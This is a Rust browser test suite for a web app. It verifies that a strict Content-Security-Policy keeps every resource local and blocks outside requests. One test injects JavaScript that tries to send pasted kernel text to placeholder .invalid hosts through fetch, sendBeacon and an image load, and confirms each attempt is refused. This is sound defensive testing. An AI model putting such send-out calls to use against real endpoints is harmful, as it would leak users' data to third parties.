//! The page asks nothing of any other host.

use serde_json::Value;
use swizzle_tests::webdriver::Result;

use crate::cases::STEPS;
use crate::page::{self, Page};

/// What was loaded, and what the page's policy has kept from being loaded.
const ASKED: &str = "
    return performance.getEntriesByType('resource').map((entry) => entry.name).concat(window.refused)
";

const HEAR: &str = "
    window.refused = [];
    addEventListener('securitypolicyviolation', (event) => refused.push(`refused: ${event.blockedURI}`));
";

/// What the page has asked for, all of which is in its own folder.
fn asked(page: &Page) -> Result<Vec<String>> {
    let (url, asked) = (page::url()?, page.session().execute(ASKED, &[])?);
    let asked = asked.as_array().map_or(&[][..], Vec::as_slice);
    let asked: Vec<String> = asked.iter().filter_map(Value::as_str).map(String::from).collect();
    for address in &asked {
        assert!(address.starts_with(&url) || address.starts_with("data:"), "{address}");
    }
    Ok(asked)
}

#[test]
fn everything_comes_from_the_pages_own_folder() -> Result<()> {
    let page = Page::open("#/figure/157")?;
    page.session().execute(HEAR, &[])?;
    page.does(
        "go #/learn\nhas .learn-course\ngo #/glossary\nhas .glossary\ngo #/figure/169\nhas .check .hex",
    )?;
    let asked = asked(&page)?;
    // The start and what is loaded later, or nothing was looked at.
    for file in ["atlas-", "watch-", "split_check-", "split_learn-"] {
        let is_there = asked.iter().any(|address| address.contains(file));
        assert!(is_there, "{file}: {asked:?}");
    }
    // The document brings its policy with it, whatever the host says.
    let policy =
        page.text_of("return document.querySelector('meta[http-equiv=Content-Security-Policy]').content")?;
    assert!(policy.starts_with("default-src 'none';"), "{policy}");
    assert!(!policy.contains("http") && !policy.contains('*'), "{policy}");
    let scripts = policy.split("; ").find(|part| part.starts_with("script-src"));
    // The page's own, and one in the document, which may be no other.
    let sources: Vec<&str> = scripts.unwrap_or_default().split(' ').collect();
    assert!(
        matches!(
            sources[..],
            ["script-src", "'self'", "'wasm-unsafe-eval'", hash] if hash.starts_with("'sha256-")
        ),
        "{sources:?}"
    );
    page.does("quiet")
}

/// A kernel's text stays in the browser: reading it asks for nothing, and what would send it away is refused.
#[test]
fn a_kernel_is_sent_nowhere() -> Result<()> {
    let page = Page::open("#/kernel")?;
    page.does("has #kernel-paste")?;
    let session = page.session();
    session.execute(HEAR, &[])?;
    let text = swizzle_lens::Example::KAdvance.text();
    session.execute(STEPS, &["put".into(), "#kernel-paste".into(), text.into()])?;
    // Parts of the page itself are loaded when they are drawn.
    page.does("has .fix mark")?;
    asked(&page)?;
    // No host has this name.
    let send = "
        fetch('https://kernel.invalid/', { method: 'POST', body: 'text' }).catch(() => {});
        try { navigator.sendBeacon('https://beacon.invalid/', 'text'); } catch {}
        const image = new Image();
        image.src = 'https://image.invalid/';
    ";
    session.execute(send, &[])?;
    for host in ["kernel", "beacon", "image"] {
        let is_refused = format!("return refused.some((one) => one.includes('{host}.invalid'))");
        session.wait_until(host, &is_refused)?;
    }
    Ok(())
}
